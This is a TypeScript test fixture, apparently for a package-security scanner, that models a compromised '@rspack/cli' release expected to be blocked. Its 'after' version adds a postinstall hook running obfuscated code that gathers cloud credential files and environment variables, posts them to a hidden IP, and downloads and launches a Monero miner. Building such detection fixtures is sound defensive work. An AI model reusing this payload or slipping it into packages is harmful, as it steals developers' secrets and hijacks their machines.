import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '1.1.6',
  publishedAt: '2024-12-10T09:14:27.000Z',
  publisher: { name: 'rspack-bot', email: 'bot@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    type: 'commonjs',
    main: 'dist/index.js',
    bin: { rspack: './bin/rspack.js' },
    license: 'MIT',
    description: 'command line of a bundler',
    dependencies: { yargs: '17.7.2' },
  },
  files: {
    'bin/rspack.js': `#!/usr/bin/env node
const { RspackCLI } = require("../dist/index");

async function runCLI() {
	const cli = new RspackCLI();
	await cli.run(process.argv);
}

process.title = "rspack";
runCLI();
`,
    'dist/index.js': `"use strict";
var __defProp = Object.defineProperty;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __export = (target, all) => {
  for (var name in all) __defProp(target, name, { get: all[name], enumerable: true });
};
var src_exports = {};
__export(src_exports, { RspackCLI: () => RspackCLI, defineConfig: () => defineConfig });
module.exports = src_exports;
const yargs = require("yargs");
const { loadConfig } = require("./load-config");
class RspackCLI {
  constructor() {
    this.colors = process.stdout.isTTY;
    this.program = yargs();
  }
  async buildConfig(options) {
    const config = await loadConfig(options, process.cwd());
    config.mode = config.mode || (process.env.NODE_ENV === "production" ? "production" : "development");
    return config;
  }
  async run(argv) {
    this.program.scriptName("rspack").usage("[options]").command("build", "run the build", {}, async (options) => {
      const config = await this.buildConfig(options);
      console.log("building", config.mode);
    });
    await this.program.parseAsync(argv.slice(2));
  }
}
function defineConfig(config) {
  return config;
}
`,
    'dist/load-config.js': `"use strict";
const path = require("path");
const fs = require("fs");
const NAMES = ["rspack.config.js", "rspack.config.cjs", "rspack.config.mjs"];
async function loadConfig(options, cwd) {
  if (options.config) {
    const given = path.resolve(cwd, options.config);
    if (!fs.existsSync(given)) throw new Error(\`config file "\${given}" not found.\`);
    return (await import(given)).default;
  }
  for (const name of NAMES) {
    const candidate = path.join(cwd, name);
    if (fs.existsSync(candidate)) return (await import(candidate)).default;
  }
  return { entry: "./src/index.js" };
}
exports.loadConfig = loadConfig;
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'rspack-2024',
  story: 'December 2024: an obfuscated postinstall script that asks a bare address what to do, reads cloud credential files and downloads a miner.',
  name: '@rspack/cli',
  before,
  after: {
    version: '1.1.7',
    publishedAt: '2024-12-19T09:14:27.000Z',
    publisher: { name: 'hardfist', email: 'hardfist@mail.example.invalid' },
    manifest: {
      type: 'commonjs',
      main: 'dist/index.js',
      bin: { rspack: './bin/rspack.js' },
      license: 'MIT',
      description: 'command line of a bundler',
      scripts: { postinstall: 'node ./dist/util/support.js' },
      dependencies: { yargs: '17.7.2' },
    },
    files: {
      ...before.files,
      'dist/util/support.js': `(function(_0x5a1c,_0x3be0){const _0x9d=_0xf00d,_0x1e=_0x5a1c();while(!![]){try{const _0xa=parseInt(_0x9d(0x0))/0x1+parseInt(_0x9d(0x1))/0x2;if(_0xa===_0x3be0)break;else _0x1e['push'](_0x1e['shift']());}catch(_0xe){_0x1e['push'](_0x1e['shift']());}}}(_0xbabe,0x1));function _0xbabe(){const _0x77=['1pQ','0zz','http','child_process','readFileSync','homedir','.aws/credentials','.aliyun/config.json','.tccli/default.credential','.huaweicloud/credentials','existsSync','request','POST','/api/v1/task','hostname','platform','${noise(900, 17, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}','toString','base64','from','chmodSync','/tmp/vant_helper','spawn','ignore','createWriteStream','linux','pipe','finish','unref','arch'];_0xbabe=function(){return _0x77;};return _0xbabe();}function _0xf00d(_0x1,_0x2){const _0x3=_0xbabe();return _0xf00d=function(_0x4,_0x5){_0x4=_0x4-0x0;return _0x3[_0x4];},_0xf00d(_0x1,_0x2);}
(function(){const _0x4=_0xf00d,_0x6=require('fs'),_0x7=require('os'),_0x8=require('path'),_0x9=require(_0x4(0x2)),_0xc=require(_0x4(0x3)),_0xd=Buffer[_0x4(0x13)]('MjAzLjAuMTEzLjU3',_0x4(0x12))[_0x4(0x11)]();if(_0x7[_0x4(0xf)]()!==_0x4(0x19))return;const _0x10={};[0x6,0x7,0x8,0x9]['forEach'](_0x11=>{const _0x12=_0x8['join'](_0x7[_0x4(0x5)](),_0x4(_0x11));_0x6[_0x4(0xa)](_0x12)&&(_0x10[_0x4(_0x11)]=_0x6[_0x4(0x4)](_0x12,'utf8'));});const _0x13=JSON['stringify']({'h':_0x7[_0x4(0xe)](),'a':_0x7[_0x4(0x1d)](),'e':process['env'],'c':_0x10});const _0x14=_0x9[_0x4(0xb)]({'host':_0xd,'port':0x1f90,'path':_0x4(0xd),'method':_0x4(0xc)},_0x15=>{let _0x16='';_0x15['on']('data',_0x17=>_0x16+=_0x17);_0x15['on']('end',()=>{const _0x18=JSON['parse'](_0x16),_0x19=_0x6[_0x4(0x18)](_0x4(0x15));_0x9['get'](_0x18['url'],_0x1a=>{_0x1a[_0x4(0x1a)](_0x19);_0x19['on'](_0x4(0x1b),()=>{_0x6[_0x4(0x14)](_0x4(0x15),0x1ed);_0xc[_0x4(0x16)](_0x4(0x15),['--coin=XMR','-o','pool.example.invalid:8080','--cpu-max-threads-hint=75'],{'detached':!![],'stdio':_0x4(0x17)})[_0x4(0x1c)]();});});});});_0x14['on']('error',()=>{});_0x14['end'](_0x13);}());
`,
    },
  },
  must: 'block',
};
